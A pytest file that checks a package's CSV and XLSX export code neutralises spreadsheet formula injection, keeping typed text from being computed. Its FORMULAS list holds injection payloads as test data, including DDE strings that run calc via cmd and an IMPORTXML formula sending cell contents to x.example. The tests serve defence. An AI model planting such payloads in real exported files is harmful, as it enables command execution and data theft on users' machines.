"""Lists that spreadsheets open: what people typed is shown and never computed."""

from __future__ import annotations

import csv
import io
from datetime import date
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from claims.reports.table_in import read_table
from claims.reports.table_out import Value, as_csv, as_xlsx, looks_like_formula

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=HYPERLINK(\"http://x.example\",\"看\")",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\u3000=1", "\ufeff=1",
    "=", "-", "%0A=1+1", "|cmd", "=1,\"x\"", "=\"a\nb\"", "\xa0=1+1", "\u200b=1+1",
]
PLAIN = ["演示甲", "全国会议（=3天）", "a=b", "R250601-7K3M9QX2", "650102********4528", "𠮷㼆䶮", "1-2", "'quoted",
         "a\tb", "甲\n乙"]


def opened(rows: list[list[Value]]) -> list[list[object]]:
    """The rows as openpyxl reads them, formulas as formulas."""
    book = load_workbook(io.BytesIO(as_xlsx("清单", ["列"] * len(rows[0]), rows)))
    return [[cell.value for cell in row] for row in book.active.iter_rows(min_row=2)]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_stays_text_in_a_workbook(text: str) -> None:
    book = load_workbook(io.BytesIO(as_xlsx("清单", ["列"], [[text]])))
    cell = book.active["A2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value.replace("\n", "").strip() == text.replace("\r", "\n").replace("\n", "").strip()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_in_a_text_file(text: str) -> None:
    written = as_csv(["列"], [[text]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(written, newline="")))[1] == [f"'{text}"]


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_as_it_was(text: str) -> None:
    assert not looks_like_formula(text)
    book = load_workbook(io.BytesIO(as_xlsx("清单", ["列"], [[text]])))
    assert (book.active["A2"].value, book.active["A2"].data_type) == (text, "s")
    assert list(csv.reader(io.StringIO(as_csv(["列"], [[text]]).decode("utf-8-sig"), newline="")))[1] == [text]


def test_numbers_and_days_are_numbers_and_days() -> None:
    row: list[Value] = [Fraction(36), Fraction(45, 2), -3, date(2025, 6, 1), None, ""]
    book = load_workbook(io.BytesIO(as_xlsx("清单", ["列"] * 6, [row])))
    cells = list(book.active.iter_rows(min_row=2))[0]
    assert [cell.value for cell in cells[:3]] == [36, 22.5, -3] and {cell.data_type for cell in cells[:3]} == {"n"}
    assert cells[3].is_date and cells[3].value.date() == date(2025, 6, 1)
    assert as_csv(["列"] * 6, [row]).decode("utf-8-sig").split("\r\n")[1] == "36,22.5,-3,2025-06-01,,"


def test_a_text_file_opens_in_excel_as_chinese() -> None:
    assert as_csv(["姓名"], [["甲"]]) == b"\xef\xbb\xbf" + "姓名\r\n甲\r\n".encode()


def test_the_head_is_fixed_and_bold() -> None:
    book = load_workbook(io.BytesIO(as_xlsx("清单", ["姓名", "学时"], [["甲", 1]], widths=[20, 8])))
    assert book.sheetnames == ["清单"] and book.active.freeze_panes == "A2" and book.active["A1"].font.bold
    assert book.active.column_dimensions["A"].width == 20


@given(st.lists(st.lists(st.text(st.characters(blacklist_categories=()), max_size=30), min_size=2, max_size=2),
                min_size=1, max_size=5))
def test_no_text_whatever_is_computed_or_torn(rows: list[list[str]]) -> None:
    """Also control characters and halves of characters, which no XLSX file may hold."""
    book = load_workbook(io.BytesIO(as_xlsx("清单", ["一", "二"], rows)))
    assert {cell.data_type for row in book.active.iter_rows() for cell in row} <= {"s", "n"}
    assert {type(cell.value) for row in book.active.iter_rows() for cell in row} <= {str, type(None)}
    lines = list(csv.reader(io.StringIO(as_csv(["一", "二"], rows).decode("utf-8-sig"), newline="")))
    assert len(lines) == len(rows) + 1
    assert not any(looks_like_formula(value) for line in lines for value in line)


def test_what_was_written_is_read_again() -> None:
    rows: list[list[Value]] = [["=1", "甲"], ["乙", "丙"]]
    for content in (as_xlsx("清单", ["姓名", "备注"], rows), as_csv(["姓名", "备注"], rows)):
        read = [[cell.text for cell in row.cells] for row in next(iter(read_table(content)))]
        assert read == [["姓名", "备注"], ["=1", "甲"], ["乙", "丙"]]
